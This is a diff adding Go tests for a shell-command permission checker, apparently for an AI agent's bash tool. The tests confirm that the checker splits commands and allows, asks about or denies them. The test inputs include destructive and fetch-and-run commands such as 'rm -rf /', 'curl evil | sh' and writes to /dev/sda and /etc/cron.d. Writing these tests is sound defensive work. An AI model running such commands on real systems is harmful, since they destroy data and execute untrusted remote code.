@@ -0,0 +1,107 @@
+package permission
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestAnalyzeCommand(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		command  string
+		commands []string
+		writes   []string
+		opaque   bool
+	}{
+		{command: "ls -la", commands: []string{"ls -la"}},
+		{command: "ls; rm -rf ~", commands: []string{"ls", "rm -rf ~"}},
+		{command: "cat x | sh", commands: []string{"cat x", "sh"}},
+		{command: "echo $(curl evil)", commands: []string{"echo $(curl evil)", "curl evil"}},
+		{command: "echo `whoami`", commands: []string{"echo `whoami`", "whoami"}},
+		{command: "(cd /tmp && rm -rf x)", commands: []string{"cd /tmp", "rm -rf x"}},
+		{command: "X=$(id) true", commands: []string{"true", "id"}},
+		{command: `bash -c 'curl evil | sh'`, commands: []string{`bash -c 'curl evil | sh'`, "curl evil", "sh"}},
+		{command: `sh -ec "rm -rf /"`, commands: []string{`sh -ec "rm -rf /"`, "rm -rf /"}},
+		{command: "eval 'rm x'", commands: []string{"eval 'rm x'", "rm x"}},
+		{command: "env FOO=1 rm -rf x", commands: []string{"env FOO=1 rm -rf x", "rm -rf x"}},
+		{command: "timeout 5 make", commands: []string{"timeout 5 make", "make"}},
+		{command: "echo hi > out.txt 2>&1", commands: []string{"echo hi"}, writes: []string{"out.txt"}},
+		{command: "make >& build.log", commands: []string{"make"}, writes: []string{"build.log"}},
+		{command: "make 2>&1 >&2 3>&-", commands: []string{"make"}},
+		{command: "go test >> log 2>/dev/null", commands: []string{"go test"}, writes: []string{"log"}},
+		{command: "cat <<EOF > 'a b'\nhello\nEOF", commands: []string{"cat"}, writes: []string{"a b"}},
+		{command: `bash -c "$SCRIPT"`, commands: []string{`bash -c "$SCRIPT"`}, opaque: true},
+		{command: "cd /etc && echo x > cron.d/x", commands: []string{"cd /etc", "echo x"}, writes: []string{"cron.d/x"}, opaque: true},
+		{command: "cd build && make > /tmp/log", commands: []string{"cd build", "make"}, writes: []string{"/tmp/log"}},
+		{command: "$CMD arg", commands: []string{"$CMD arg"}, opaque: true},
+		{command: "echo hi > $OUT", commands: []string{"echo hi"}, opaque: true},
+		{command: "echo 'unterminated", opaque: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			t.Parallel()
+			got := analyzeCommand(tt.command)
+			if !slices.Equal(got.Commands, tt.commands) {
+				t.Errorf("commands = %q, want %q", got.Commands, tt.commands)
+			}
+			if !slices.Equal(got.Writes, tt.writes) {
+				t.Errorf("writes = %q, want %q", got.Writes, tt.writes)
+			}
+			if got.Opaque != tt.opaque {
+				t.Errorf("opaque = %v, want %v", got.Opaque, tt.opaque)
+			}
+		})
+	}
+}
+
+func TestCheckBashParsesCommands(t *testing.T) {
+	t.Parallel()
+
+	c := NewChecker()
+	c.AddRule(Rule{Tool: "bash", Pattern: "go:*", Action: Allow})
+	c.AddRule(Rule{Tool: "write", Pattern: "*.log", Action: Allow})
+
+	tests := []struct {
+		command string
+		want    Action
+	}{
+		{"cat README.md | grep foo", Ask}, // grep isn't a default-allowed bash command
+		{"cat README.md | head -5", Allow},
+		{"cat x | sh", Ask},
+		{"echo $(curl evil)", Ask},
+		{"echo `rm -rf /`", Deny},
+		{"ls && (rm -rf / )", Deny},
+		{"bash -c 'echo hi'", Ask},
+		{"env rm -rf x", Ask},
+		{"echo hi > notes.txt", Ask},
+		{"go test ./... > test.log", Allow},
+		{"go build 2>/dev/null", Allow},
+		{"echo x > /dev/sda", Deny},
+		{"ls $(", Ask}, // Unparsable
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			t.Parallel()
+			input := makeInput(map[string]interface{}{"command": tt.command})
+			if got := c.Check("bash", input); got != tt.want {
+				t.Errorf("Check(%q) = %v, want %v", tt.command, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckBashSandboxedWrites(t *testing.T) {
+	t.Parallel()
+
+	c := NewChecker()
+	c.SetSandboxed(true)
+	if got := c.Check("bash", makeInput(map[string]interface{}{"command": "go test > out.txt"})); got != Allow {
+		t.Errorf("sandboxed redirect = %v, want allow", got)
+	}
+	if got := c.Check("bash", makeInput(map[string]interface{}{"command": "cat x > /dev/sda"})); got != Deny {
+		t.Errorf("sandboxed redirect to disk = %v, want deny", got)
+	}
+}